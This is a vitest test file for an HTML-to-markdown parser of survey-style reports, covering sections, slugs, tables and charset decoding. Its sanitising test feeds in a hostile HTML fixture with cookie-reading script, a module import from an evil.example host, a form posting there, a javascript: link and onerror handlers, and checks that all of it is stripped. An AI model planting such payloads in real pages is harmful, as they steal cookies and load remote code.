import { describe, expect, it } from 'vitest';
import { parseDocument } from '../src/index.js';
import { buildHtml, sampleReportSpec } from '@reports/test-support';
import { expectMarkdownTable, expectMatchesSpec } from './helpers.js';

const html = (s: string): Buffer => Buffer.from(s, 'utf8');
const parseHtml = (s: string | Buffer) =>
  parseDocument('html', typeof s === 'string' ? html(s) : s);

describe('HTML parsing: the sample report', () => {
  it('gives one section per heading with the paragraphs and tables of the spec', async () => {
    const spec = sampleReportSpec();
    const doc = await parseHtml(buildHtml(spec));
    expect(doc.kind).toBe('html');
    expect(doc.page_count).toBeNull();
    expectMatchesSpec(doc, spec);
    for (const s of doc.sections) {
      expect(s.page_start).toBeNull();
      expect(s.page_end).toBeNull();
      expect(s.markdown).not.toMatch(/<\/?[a-z]+[\s>]/i); // markdown only, no leftover HTML
    }
  });

  it('keeps accents in names and text while slugs drop them', async () => {
    const spec = sampleReportSpec();
    const doc = await parseHtml(buildHtml(spec));
    const walls = doc.sections.find((s) => s.name === 'Walls and Façade');
    expect(walls?.slug).toBe('walls-and-facade');
  });

  it('handles a large spec with repeated headings (unique slugs)', async () => {
    const spec = sampleReportSpec({ sections: 20, paragraphsPerSection: 3, seed: 5 });
    const doc = await parseHtml(buildHtml(spec));
    expectMatchesSpec(doc, spec);
    expect(doc.sections.filter((s) => s.slug.startsWith('roof')).map((s) => s.slug)).toEqual([
      'roof',
      'roof-1',
      'roof-2',
    ]);
  });
});

describe('HTML parsing: sections', () => {
  it('keeps heading levels, splits on headings nested in wrappers, not on headings inside tables', async () => {
    const doc = await parseHtml(`<!doctype html><html><head><title>Report</title></head><body>
      <div class="page"><section><h1>Roof</h1><p>Slates.</p>
        <h2>Chimney</h2><p>Leaning stack.</p></section>
        <article><h3>Flashing</h3><p>Lead.</p>
          <table><tr><td><h4>Not a section</h4></td><td>cell</td></tr><tr><td>a</td><td>b</td></tr></table>
        </article></div></body></html>`);
    expect(doc.sections.map((s) => [s.name, s.level, s.slug])).toEqual([
      ['Roof', 1, 'roof'],
      ['Chimney', 2, 'chimney'],
      ['Flashing', 3, 'flashing'],
    ]);
    expect(doc.sections[1]?.markdown).toBe('Leaning stack.');
    expect(doc.sections[2]?.markdown).toContain('Not a section');
    expect(doc.tables).toHaveLength(1);
    expect(doc.tables[0]?.rows).toEqual([
      ['Not a section', 'cell'],
      ['a', 'b'],
    ]);
    expect(doc.tables[0]?.markdown).not.toContain('<');
  });

  it('puts content before the first heading in a level-0 section named after the title', async () => {
    const doc = await parseHtml(
      '<title>Survey of 3 Elm Road</title><p>Prepared for Ms Smith.</p><h1>Roof</h1><p>Fine.</p>',
    );
    expect(doc.title).toBe('Survey of 3 Elm Road');
    expect(doc.sections.map((s) => [s.name, s.level, s.order, s.slug])).toEqual([
      ['Survey of 3 Elm Road', 0, 0, 'survey-of-3-elm-road'],
      ['Roof', 1, 1, 'roof'],
    ]);
    expect(doc.sections[0]?.markdown).toBe('Prepared for Ms Smith.');
  });

  it('names untitled leading content "Introduction" and skips it when empty', async () => {
    const intro = await parseHtml('<p>Preamble text.</p><h2>Damp</h2><p>Dry.</p>');
    expect(intro.title).toBeNull();
    expect(intro.sections.map((s) => [s.name, s.level])).toEqual([
      ['Introduction', 0],
      ['Damp', 2],
    ]);
    const empty = await parseHtml('<title>T</title>\n  <p> </p>\n<h1>Damp</h1><p>Dry.</p>');
    expect(empty.sections.map((s) => s.name)).toEqual(['Damp']);
  });

  it('takes the title from the first h1 when there is no <title>', async () => {
    const doc = await parseHtml('<h1>Building Survey</h1><p>Intro.</p><h2>Roof</h2><p>Ok.</p>');
    expect(doc.title).toBe('Building Survey');
  });

  it('returns one section holding everything when there are no headings', async () => {
    const doc = await parseHtml(
      '<html><body><p>First.</p><p>Second.</p><ul><li>one</li><li>two</li></ul></body></html>',
    );
    expect(doc.sections).toHaveLength(1);
    expect(doc.sections[0]).toMatchObject({
      name: 'Introduction',
      level: 0,
      order: 0,
      slug: 'introduction',
    });
    expect(doc.sections[0]?.markdown).toBe('First.\n\nSecond.\n\n-   one\n-   two');
  });

  it('makes slugs unique, lowercase ASCII, and never empty', async () => {
    const doc = await parseHtml(
      '<h1>Roof</h1><p>a</p><h1>Roof</h1><p>b</p><h1>ROOF</h1><h1>Élévation Nord</h1><h1>屋根</h1><h1>屋根</h1><h1>Œuvre &amp; Straße</h1><h1>  </h1>',
    );
    expect(doc.sections.map((s) => s.slug)).toEqual([
      'roof',
      'roof-1',
      'roof-2',
      'elevation-nord',
      'section',
      'section-1',
      'oeuvre--strasse',
    ]);
    expect(doc.sections.map((s) => s.name)).toContain('Élévation Nord');
    expect(doc.sections[2]?.markdown).toBe('');
  });

  it('returns no sections for a document without any text', async () => {
    const doc = await parseHtml('<html><head><title></title></head><body><p> </p></body></html>');
    expect(doc.sections).toEqual([]);
    expect(doc.tables).toEqual([]);
  });
});

describe('HTML parsing: markdown', () => {
  it('renders emphasis, lists, links (text + href) and images as alt text', async () => {
    const doc = await parseHtml(
      '<h1>Notes</h1><p>Some <strong>bold</strong> and <em>italic</em> text, see <a href="https://example.com/guide">the guide</a>.</p>' +
        '<ol><li>first</li><li>second</li></ol><p><img src="https://cdn.example.com/front.jpg" alt="Front elevation"> photo</p>',
    );
    const md = doc.sections[0]?.markdown ?? '';
    expect(md).toContain(
      'Some **bold** and _italic_ text, see [the guide](https://example.com/guide).',
    );
    expect(md).toContain('1.  first\n2.  second');
    expect(md).toContain('Front elevation photo');
    expect(md).not.toContain('cdn.example.com');
  });

  it('turns every table into a GFM table with its first row as header', async () => {
    const doc = await parseHtml(`<h1>Rooms</h1>
      <table>
        <tr><td>Room</td><td>Size</td></tr>
        <tr><td>Kitchen</td><td>4 m | 3 m</td></tr>
        <tr><td> </td><td></td></tr>
      </table>
      <table><thead><tr><th>A</th><th colspan="2">B</th></tr><tr><th>x</th><th>y</th><th>z</th></tr></thead>
        <tbody><tr><td>1</td><td>2</td><td>3</td></tr></tbody></table>
      <table><tr><td>Only one cell</td></tr></table>`);
    expect(doc.tables.map((t) => t.rows)).toEqual([
      [
        ['Room', 'Size'],
        ['Kitchen', '4 m | 3 m'],
      ],
      [
        ['A', 'B', ''],
        ['x', 'y', 'z'],
        ['1', '2', '3'],
      ],
    ]);
    expect(doc.tables[0]?.markdown).toBe(
      '| Room | Size |\n| --- | --- |\n| Kitchen | 4 m \\| 3 m |',
    );
    const md = doc.sections[0]?.markdown ?? '';
    for (const t of doc.tables) expect(md).toContain(t.markdown);
    expect(md).toContain('Only one cell');
    expect(md).not.toContain('<');
  });

  it('renders tables holding lists or headings as plain-text markdown tables, not HTML', async () => {
    const doc = await parseHtml(
      '<h1>Defects</h1><table><tr><th>Item</th><th>Notes</th></tr><tr><td>Roof</td><td><ul><li>slipped slates</li><li>moss</li></ul></td></tr></table>',
    );
    const table = doc.tables[0];
    expect(table?.rows).toEqual([
      ['Item', 'Notes'],
      ['Roof', 'slipped slates moss'],
    ]);
    expectMarkdownTable(table?.markdown ?? '', table?.rows ?? []);
    expect(doc.sections[0]?.markdown).toContain(table?.markdown ?? '<missing>');
    expect(doc.sections[0]?.markdown).not.toContain('<');
  });
});

describe('HTML parsing: sanitising', () => {
  it('removes scripts, styles, frames, embeds, forms controls, event handlers and inline styles', async () => {
    const doc = await parseHtml(`<!doctype html><html><head>
        <title>Safe</title><meta http-equiv="refresh" content="0;url=https://evil.example/">
        <link rel="stylesheet" href="https://evil.example/x.css"><style>body { color: red }</style>
        <script>window.stolen = document.cookie</script></head>
      <body onload="boot()">
        <h1 onclick="track()">Roof</h1>
        <p style="color: red" onmouseover="steal()">Visible text.</p>
        <script type="module">import('https://evil.example/m.js')</script>
        <iframe src="https://evil.example/frame">iframe fallback</iframe>
        <object data="x.swf">object fallback</object><embed src="x.swf">
        <form action="https://evil.example/post"><input name="q" value="secret-value"><textarea>typed secret</textarea>
          <select><option>opt secret</option></select><button>Press</button><p>Text inside a form.</p></form>
        <p><a href="javascript:alert(1)">bad link</a> <a href="https://example.com/ok" onclick="x()">good link</a></p>
        <img src="https://tracker.example/pixel.gif" onerror="pwn()" alt="Plan">
        <noscript>Enable JavaScript</noscript>
      </body></html>`);
    const md = doc.sections.map((s) => s.markdown).join('\n');
    for (const bad of [
      'stolen',
      'cookie',
      'color',
      'red',
      'boot',
      'track',
      'steal',
      'evil.example',
      'iframe fallback',
      'object fallback',
      'secret',
      'Press',
      'javascript',
      'alert',
      'tracker',
      'pwn',
      'onerror',
      'Enable JavaScript',
      '<',
    ]) {
      expect(md, bad).not.toContain(bad);
    }
    expect(doc.title).toBe('Safe');
    expect(doc.sections.map((s) => s.name)).toEqual(['Roof']);
    expect(md).toContain('Visible text.');
    expect(md).toContain('Text inside a form.');
    expect(md).toContain('bad link');
    expect(md).toContain('[good link](https://example.com/ok)');
    expect(md).toContain('Plan');
  });
});

describe('HTML parsing: character sets', () => {
  const body =
    '<title>Caf\xe9</title></head><body><h1>Fa\xe7ade</h1><p>Cr\xe8me \x80 5 \x93quoted\x94</p></body></html>';

  it('decodes windows-1252 declared by <meta charset>', async () => {
    const doc = await parseHtml(
      Buffer.from(`<html><head><meta charset="windows-1252">${body}`, 'latin1'),
    );
    expect(doc.title).toBe('Café');
    expect(doc.sections[0]?.name).toBe('Façade');
    expect(doc.sections[0]?.slug).toBe('facade');
    expect(doc.sections[0]?.markdown).toBe('Crème € 5 “quoted”');
  });

  it('decodes windows-1252 declared by http-equiv Content-Type', async () => {
    const doc = await parseHtml(
      Buffer.from(
        `<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252">${body}`,
        'latin1',
      ),
    );
    expect(doc.sections[0]?.markdown).toBe('Crème € 5 “quoted”');
  });

  it('falls back to windows-1252 for unknown labels and for bytes that are not UTF-8', async () => {
    const unknown = await parseHtml(
      Buffer.from(`<html><head><meta charset="x-no-such-charset">${body}`, 'latin1'),
    );
    expect(unknown.sections[0]?.name).toBe('Façade');
    const undeclared = await parseHtml(Buffer.from(`<html><head>${body}`, 'latin1'));
    expect(undeclared.sections[0]?.markdown).toBe('Crème € 5 “quoted”');
  });

  it('decodes UTF-8 by default and honours a BOM over the meta declaration', async () => {
    const utf8 = await parseHtml(html('<h1>Façade</h1><p>Ωmega “ok”</p>'));
    expect(utf8.sections[0]?.markdown).toBe('Ωmega “ok”');
    const bom = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from('<meta charset="windows-1252"><h1>Façade</h1><p>Ωmega</p>', 'utf16le'),
    ]);
    const doc = await parseHtml(bom);
    expect(doc.sections[0]?.name).toBe('Façade');
    expect(doc.sections[0]?.markdown).toBe('Ωmega');
  });

  it('decodes other declared charsets (ISO-8859-7)', async () => {
    // "Στέγη" (roof) in ISO-8859-7
    const greek = Buffer.concat([
      Buffer.from('<meta charset="iso-8859-7"><h1>', 'latin1'),
      Buffer.from([0xd3, 0xf4, 0xdd, 0xe3, 0xe7]),
      Buffer.from('</h1><p>x</p>', 'latin1'),
    ]);
    const doc = await parseHtml(greek);
    expect(doc.sections[0]?.name).toBe('Στέγη');
    expect(doc.sections[0]?.slug).toBe('section');
  });
});
